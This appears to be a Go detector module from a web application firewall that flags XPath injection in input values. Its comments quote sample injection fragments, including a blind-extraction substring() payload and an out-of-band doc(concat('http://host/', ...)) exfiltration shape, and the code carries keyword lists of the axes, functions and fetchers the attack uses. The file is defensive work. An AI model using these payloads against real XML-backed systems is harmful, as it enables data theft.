// Package xpath reads a value as a fragment spliced into an XPath query.
package xpath

import (
	"strings"

	"github.com/lambdawaf/lambdawaf/agent/detect/lex"
)

// XPath injection: a value spliced into an XPath query
// ("//user[name/text()='" + v + "']") that leaves its string literal and
// asks about the document. The readings need XPath's own grammar, which
// prose and other languages do not write: a location step with an axis
// ("child::node()"), a quote followed by OR/AND and an XPath node
// function ("' or name()='admin"), a quote that closes the predicate
// and starts another path ("'] | //*"), or a function that fetches a
// document by URL (doc('http://host/')), the out-of-band channel.

// axes are XPath 1.0's axis names.
var axes = [...]string{
	"ancestor-or-self::", "ancestor::", "attribute::", "child::", "descendant-or-self::", "descendant::",
	"following-sibling::", "following::", "namespace::", "parent::", "preceding-sibling::", "preceding::", "self::",
}

// funcs are XPath functions that read the document's structure, the
// ones blind XPath injection is made of.
var funcs = [...]string{
	"name(", "local-name(", "text(", "node(", "count(", "string-length(", "substring(", "position(",
	"last(", "contains(", "starts-with(", "string(", "normalize-space(", "translate(", "boolean(",
}

// axes, funcs and fetchers as keyword lists: a long text is searched for
// all the words of a list in one pass, not once per word.
var (
	axisWords    = lex.NewWordList(axes[:]...)
	funcWords    = lex.NewWordList(funcs[:]...)
	fetcherWords = lex.NewWordList(fetchers[:]...)
)

// Injection returns the offset and score of an XPath reading of s
// (lower-cased; have is its ByteSet or a superset), or -1.
func Injection(s string, have *lex.ByteSet) (int, int) {
	// an axis at a word boundary with a node test after it: a name, *, or
	// node()/text()
	if _, i := axisWords.Index(s, have, func(i int, a string) bool {
		j := i + len(a)
		return (i == 0 || !lex.IsWord(s[i-1]) && s[i-1] != '-') && j < len(s) && (lex.IsAlpha(s[j]) || s[j] == '*')
	}); i >= 0 {
		return i, 7
	}
	// a node function over an absolute location path, the shape of blind
	// extraction: substring(//user[userid=5]/username,2,1), count(/*)
	if _, i := funcWords.Index(s, have, func(i int, fn string) bool {
		if i > 0 && (lex.IsWord(s[i-1]) || s[i-1] == '-') {
			return false
		}
		a := lex.SkipSpace(s, i+len(fn))
		return a < len(s) && s[a] == '/' && a+1 < len(s) && (s[a+1] == '/' || s[a+1] == '*' || lex.IsAlpha(s[a+1]))
	}); i >= 0 {
		return i, 7
	}
	if i := fetch(s, have); i >= 0 {
		return i, 8
	}
	for off := 0; off < len(s); {
		// (performance only: the next quote by a byte loop, not
		// strings.IndexAny, which builds its byte set on every call and
		// is called once per quote of a quote run)
		q := off
		for q < len(s) && s[q] != '\'' && s[q] != '"' {
			q++
		}
		if q == len(s) {
			break
		}
		off = q + 1
		r := lex.SkipSpace(s, q+1)
		// the quote may close a call too: "')] | //x", "') and contains("
		for r < len(s) && s[r] == ')' {
			r = lex.SkipSpace(s, r+1)
		}
		// '] | //x or '] /x: the predicate closed, a new path begins
		if r < len(s) && s[r] == ']' {
			if n := lex.SkipSpace(s, r+1); n < len(s) && (s[n] == '|' || s[n] == '/') {
				return q, 7
			}
		}
		var w string
		switch {
		case strings.HasPrefix(s[r:], "or "):
			w = "or "
		case strings.HasPrefix(s[r:], "and "):
			w = "and "
		default:
			continue
		}
		f := lex.SkipSpace(s, r+len(w))
		for _, fn := range funcs {
			if strings.HasPrefix(s[f:], fn) {
				return q, 8
			}
		}
	}
	return -1, 0
}

// fetchers are the XPath 2.0 and XSLT functions that load a document by
// its URI: blind XPath injection sends the data it reads out through
// them, doc(concat('http://host/', name(/*))).
var fetchers = [...]string{"doc(", "doc-available(", "document(", "unparsed-text(", "unparsed-text-available("}

// fetch finds a fetcher called on a URL literal or on a concatenation,
// and returns its offset or -1. A method of the same name (db.doc('users'))
// has a dot before it, and a path literal names no host.
func fetch(s string, have *lex.ByteSet) int {
	_, i := fetcherWords.Index(s, have, func(i int, fn string) bool {
		if i > 0 && (lex.IsWord(s[i-1]) || s[i-1] == '.' || s[i-1] == '-') {
			return false
		}
		a := lex.SkipSpace(s, i+len(fn))
		switch {
		case strings.HasPrefix(s[a:], "concat("):
			return true
		case a < len(s) && (s[a] == '\'' || s[a] == '"'):
			j := strings.IndexByte(s[a+1:], s[a])
			return j > 0 && strings.Contains(s[a+1:a+1+j], "://")
		}
		return false
	})
	return i
}
